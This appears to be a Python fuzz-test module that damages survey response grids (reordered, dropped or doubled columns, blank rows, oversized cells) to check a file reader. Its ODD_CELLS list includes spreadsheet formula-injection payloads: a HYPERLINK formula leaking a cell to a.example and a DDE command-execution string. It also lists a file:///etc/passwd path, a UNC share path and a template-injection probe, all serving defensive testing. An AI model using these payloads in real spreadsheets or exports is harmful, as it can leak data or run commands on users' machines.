"""Damage done to a survey's grid of cells, before it is written in any format.

Each returns the new grid; rows it did not touch keep their ids and scores, so that what comes out
of the reader can be checked against what went in.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import replace

from tests.fuzz.layouts import Base, Grid

Damage = Callable[[random.Random, Base], Base]
ODD_CELLS = (
    '=HYPERLINK("http://a.example/?x="&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1-1",
    "-2+3",
    "http://a.example/leak",
    "file:///etc/passwd",
    "\\\\host\\share\\x",
    "a\x00b",
    "\u202eabc\u202c",
    "\u200f\u200e\u2066x\u2069",
    "\ud83d",
    "\udc00 \ud800",
    "\ufffd\ufffd",
    "\x1b[31mred",
    "\x07\x08",
    "\r",
    "\n\n",
    "\r\n",
    '"',
    '""',
    '"a',
    'a"b',
    "a\u2028b\u0085c",
    "\ufeff",
    "'",
    "\t",
    "{newline}",
    "1e999",
    "-99",
    "99",
    "٣",
    "๙",
    "9/10",
    "NaN",
    "inf",
    "1" * 400,
    "é\u0301" * 50,
    "<b>x</b>",
    "&#0;",
    "_x0000_",
    "{{7*7}}",
    "[red]x[/]",
    "\U0010ffff",
    "\u0e33" * 30,
    "[1, 2",
    '{"ImportId": "x"}',
)


def _body(rng: random.Random, base: Base) -> int:
    return rng.randrange(min(base.heads, len(base.grid) - 1), len(base.grid))


def _copy(base: Base) -> Grid:
    return [list(row) for row in base.grid]


def odd_cells(rng: random.Random, base: Base) -> Base:
    """Put hostile cells into answers, but not into ids and scores."""
    grid = _copy(base)
    for _ in range(rng.randint(1, 12)):
        row, column = rng.choice(grid[base.heads :]), rng.randrange(len(grid[0]))
        if column not in (base.id, base.score) and column < len(row):
            row[column] = rng.choice(ODD_CELLS)
    return replace(base, grid=grid)


def odd_scores(rng: random.Random, base: Base) -> Base:
    """Put hostile cells among the scores and ids; those rows are no longer followed."""
    grid = _copy(base)
    for _ in range(rng.randint(1, 4)):
        row = rng.choice(grid[base.heads :])
        row[base.score] = rng.choice(ODD_CELLS)
        row[base.id] = rng.choice((row[base.id] + "?", "", rng.choice(ODD_CELLS)))
    return replace(base, grid=grid)


def odd_header(rng: random.Random, base: Base) -> Base:
    """Put hostile cells into the header rows."""
    grid = _copy(base)
    for _ in range(rng.randint(1, 4)):
        row = grid[rng.randrange(base.heads)]
        row[rng.randrange(len(row))] = rng.choice(ODD_CELLS)
    return replace(base, grid=grid)


def shuffled_columns(rng: random.Random, base: Base) -> Base:
    """Put the columns in another order."""
    order = list(range(len(base.grid[0])))
    rng.shuffle(order)
    grid = [[row[at] for at in order] for row in base.grid]
    return replace(base, grid=grid, id=order.index(base.id), score=order.index(base.score))


def doubled_columns(rng: random.Random, base: Base) -> Base:
    """Repeat some columns, name and all."""
    extra = rng.choices(range(len(base.grid[0])), k=rng.randint(1, 4))
    return replace(base, grid=[row + [row[at] for at in extra] for row in base.grid])


def lost_columns(rng: random.Random, base: Base) -> Base:
    """Leave out some columns other than the id and the score."""
    width = len(base.grid[0])
    kept = [at for at in range(width) if at in (base.id, base.score) or rng.random() < 0.6]
    grid = [[row[at] for at in kept] for row in base.grid]
    return replace(base, grid=grid, id=kept.index(base.id), score=kept.index(base.score))


def same_names(rng: random.Random, base: Base) -> Base:
    """Give several columns one name, or none."""
    grid = _copy(base)
    name = rng.choice(("", " ", "NPS", grid[0][0], "cx_line"))
    for _ in range(rng.randint(1, len(grid[0]))):
        grid[0][rng.randrange(len(grid[0]))] = name
    return replace(base, grid=grid)


def lost_header(rng: random.Random, base: Base) -> Base:
    """Leave out one header row."""
    at = rng.randrange(base.heads)
    return replace(base, grid=base.grid[:at] + base.grid[at + 1 :], heads=base.heads - 1)


def doubled_header(rng: random.Random, base: Base) -> Base:
    """Repeat the header rows, at the top or in the midst of the answers."""
    head, body = base.grid[: base.heads], base.grid[base.heads :]
    if rng.random() < 0.5:
        return replace(base, grid=head + head + body, heads=2 * base.heads)
    at = rng.randrange(len(body))
    return replace(base, grid=head + body[:at] + head + body[at:])


def preamble(rng: random.Random, base: Base) -> Base:
    """Put rows above the header."""
    width = len(base.grid[0])
    rows = [
        [rng.choice(("Report", "", "2026-05-01", "Filter: all"))]
        + [""] * rng.choice((0, width - 1))
        for _ in range(rng.randint(1, 5))
    ]
    return replace(base, grid=rows + base.grid, heads=base.heads + len(rows))


def ragged(rng: random.Random, base: Base) -> Base:
    """Cut cells off some rows, or add some."""
    grid = _copy(base)
    for _ in range(rng.randint(1, 5)):
        row = rng.choice(grid)
        if rng.random() < 0.5:
            del row[rng.randrange(len(row) + 1) :]
        else:
            row += rng.choices(("", "x", "1"), k=rng.randint(1, 5))
        row[:] = [f"{cell}?" if cell.startswith("R0") else cell for cell in row]
    return replace(base, grid=grid)


def blank_rows(rng: random.Random, base: Base) -> Base:
    """Put blank rows anywhere."""
    grid = _copy(base)
    for _ in range(rng.randint(1, 6)):
        at = rng.randint(base.heads, len(grid))
        grid.insert(at, rng.choice(([], [""] * len(grid[0]), [" "] * len(grid[0]))))
    return replace(base, grid=grid)


def doubled_rows(rng: random.Random, base: Base) -> Base:
    """Repeat some answers."""
    body = base.grid[base.heads :]
    return replace(base, grid=base.grid + rng.choices(body, k=rng.randint(1, len(body))))


def blank_column(rng: random.Random, base: Base) -> Base:
    """Empty every cell of a column below its name."""
    grid = _copy(base)
    others = [at for at in range(len(grid[0])) if at not in (base.id, base.score)]
    at = rng.choice(others) if others else -1
    for row in grid[base.heads :] if others else []:
        row[at] = ""
    return replace(base, grid=grid)


def few_rows(rng: random.Random, base: Base) -> Base:
    """Keep the header and up to two answers."""
    return replace(base, grid=base.grid[: base.heads + rng.randint(0, 2)])


def untouched(rng: random.Random, base: Base) -> Base:
    """Do nothing: what is read must be what was written."""
    return base


DAMAGES: tuple[Damage, ...] = (
    odd_cells,
    odd_cells,
    odd_scores,
    odd_header,
    shuffled_columns,
    doubled_columns,
    lost_columns,
    same_names,
    lost_header,
    doubled_header,
    preamble,
    ragged,
    blank_rows,
    doubled_rows,
    blank_column,
    few_rows,
    untouched,
)
LAST = {ragged, blank_rows, preamble, lost_header, few_rows}


def long_cell(rng: random.Random, base: Base) -> Base:
    """Make one comment 5 MB long."""
    grid = _copy(base)
    row = grid[_body(rng, base)]
    at = rng.choice([at for at in range(len(row)) if at not in (base.id, base.score)] or [0])
    row += [""] * (at + 1 - len(row))
    sign = rng.choice(("x", "ก", "word ", 'a"b', "=1,", "1\n", "\u200f", " "))
    row[at] = (sign * (5_000_000 // len(sign.encode()) + 1))[:5_000_000]
    return replace(base, grid=grid)


def wide(rng: random.Random, base: Base) -> Base:
    """Add columns: a million cells in all, or a million columns."""
    columns = rng.choice((20_000, 100_000, 1_000_000))
    grid = _copy(base)[: base.heads + rng.choice((1, 1, 3))]
    for at, row in enumerate(grid):
        row += [f"c{number}" if at == 0 else "1" for number in range(columns)]
    return replace(base, grid=grid)


HEAVY: tuple[Damage, ...] = (long_cell, long_cell, wide)
